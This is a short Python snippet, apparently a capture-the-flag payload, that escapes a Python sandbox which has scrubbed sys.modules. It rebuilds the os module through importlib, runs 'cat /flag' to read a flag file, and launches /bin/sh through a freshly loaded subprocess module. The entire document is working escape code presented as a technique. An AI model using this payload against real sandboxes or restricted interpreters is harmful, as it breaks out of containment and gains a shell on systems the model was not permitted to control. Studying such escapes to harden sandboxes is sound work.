# technique: sandbox scrubbed sys.modules; importlib.util.find_spec + module_from_spec rebuilds a fresh os module
import importlib.util
import sys

sys.modules.pop("os", None)
spec = importlib.util.find_spec("os")
mod = importlib.util.module_from_spec(spec)
spec.loader.exec_module(mod)
mod.system("cat /flag")
sub_spec = importlib.util.find_spec("subprocess")
sub = importlib.util.module_from_spec(sub_spec)
sub_spec.loader.exec_module(sub)
sub.call(["/bin/sh"])
